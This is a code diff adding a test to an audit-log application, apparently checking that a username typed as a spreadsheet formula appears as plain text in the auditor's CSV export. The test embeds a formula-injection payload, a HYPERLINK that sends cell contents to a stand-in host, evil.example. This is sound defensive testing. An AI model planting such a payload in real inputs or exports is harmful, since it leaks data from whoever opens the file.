@@ -20,7 +20,7 @@ from models import AuditEvent, Document
 
 from .conftest import FIXTURES, ROOT
 from .test_audit import tamper
-from .web_helper import sign_in
+from .web_helper import sign_in, signed_in_client
 
 DRAFT = "深化财政预算管理制度改革方案（征求意见稿）.txt"  # attached to DT-2015-02 (plan 2) by zhang in the demo
 
@@ -281,3 +281,16 @@ def test_the_export_streams_while_people_work_and_is_the_chain_from_its_start(sm
     assert len(events) >= before
     assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
     assert all(e["prev_hash"] == p["hash"] for p, e in zip(events, events[1:]))
+
+
+def test_a_name_typed_as_a_formula_at_the_sign_in_page_is_text_in_the_downloaded_csv(demo_engine):
+    """Anyone can type a name at the sign-in page, and the refusal records it: the CSV the auditor
+    downloads and opens in Excel must show it, not run it."""
+    typed = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'
+    anonymous = signed_in_client(demo_engine, "feng")  # feng: the auditor
+    anonymous.get("/logout")
+    anonymous.post("/login", data={"username": typed, "password": "x"})
+    feng = signed_in_client(demo_engine, "feng")
+    text = feng.get("/audit/export.csv").get_data(as_text=True)
+    actors = [row["actor"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))]
+    assert "'" + typed in actors and typed not in actors
